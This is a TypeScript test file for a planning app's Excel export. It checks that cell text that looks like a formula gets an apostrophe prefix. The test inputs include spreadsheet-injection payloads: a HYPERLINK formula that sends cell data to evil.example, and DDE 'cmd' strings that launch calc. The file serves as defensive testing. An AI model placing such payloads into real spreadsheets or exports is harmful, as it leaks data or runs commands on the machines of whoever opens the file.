import { OrgLevel, ReportStatus, CompletionState } from '@sunshine/shared/domain';
import { Workbook, type CellValue } from 'exceljs';
import { isFormulaLike, safeCellText } from '../cell-text';
import { buildPlanExport, type PlanExportInput } from '../export-plan';
import { buildSampleChecklist } from '../sample';
import { buildChecklistTemplate } from '../template';

/** Issue 7, item 12: no exported cell holds text a spreadsheet could run as a formula. */

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
];

/** The hostile text at position k, wrapping around the list. */
const hostile = (k: number): string => HOSTILE[k % HOSTILE.length]!;

function textOf(value: CellValue): string | null {
  if (typeof value === 'string') return value;
  if (value && typeof value === 'object') {
    if ('richText' in value) return value.richText.map((r) => r.text).join('');
    if ('hyperlink' in value && typeof value.text === 'string') return value.text;
  }
  return null;
}

async function cells(buffer: Buffer): Promise<{ texts: string[]; formulas: number }> {
  const workbook = new Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const texts: string[] = [];
  let formulas = 0;
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.formula) formulas += 1;
        const text = textOf(cell.value);
        if (text !== null) texts.push(text);
      }),
    ),
  );
  return { texts, formulas };
}

function hostileInput(): PlanExportInput {
  return {
    plan: { year: 2025, title: hostile(0), status: 'PUBLISHED' },
    categories: HOSTILE.map((name, i) => ({
      name,
      order: i,
      tasks: [
        {
          number: `${i + 1}.1`,
          title: hostile(i + 1),
          description: hostile(i + 2),
          leadDepartments: [hostile(i + 3)],
          cooperatingDepartments: [hostile(i + 4)],
          deadline: { kind: 'CONTINUOUS' },
          deadlineText: hostile(i + 5),
          levels: [OrgLevel.COUNTY],
          weight: 1,
          evidence: hostile(i + 6),
          target: null,
        },
      ],
    })),
    assignments: HOSTILE.map((name, i) => ({
      taskNumber: `${i + 1}.1`,
      organization: { code: `34010${i}`, name, level: OrgLevel.COUNTY },
      latest: {
        quarter: { year: 2025, quarter: 2 },
        completionState: CompletionState.IN_PROGRESS,
        percent: 50,
        reportStatus: ReportStatus.SUBMITTED,
        late: false,
      },
    })),
  };
}

describe('formula-like text in exports', () => {
  it('safeCellText prefixes formula-like text with an apostrophe and leaves other text alone', () => {
    for (const text of HOSTILE) {
      expect(isFormulaLike(text)).toBe(true);
      expect(safeCellText(text)).toBe(`'${text}`);
      expect(isFormulaLike(safeCellText(text))).toBe(false);
    }
    for (const text of ['审计结果公告', '2.1', '6月底前', 'a=b', '—', '']) {
      expect(safeCellText(text)).toBe(text);
    }
  });

  it('the plan export neutralises every hostile name, title and text (0 formula-like cells)', async () => {
    const { texts, formulas } = await cells(await buildPlanExport(hostileInput()));
    expect(formulas).toBe(0);
    expect(texts.filter(isFormulaLike)).toEqual([]);
    // The text itself is kept, behind the apostrophe.
    expect(texts).toContain(`'${HOSTILE[1]}`);
    expect(texts.some((t) => t.includes('cmd|'))).toBe(true);
  });

  it('the template and the sample hold no formula-like cell either', async () => {
    for (const buffer of [await buildChecklistTemplate(), await buildSampleChecklist(2025)]) {
      const { texts, formulas } = await cells(buffer);
      expect(formulas).toBe(0);
      expect(texts.filter(isFormulaLike)).toEqual([]);
    }
  });
});
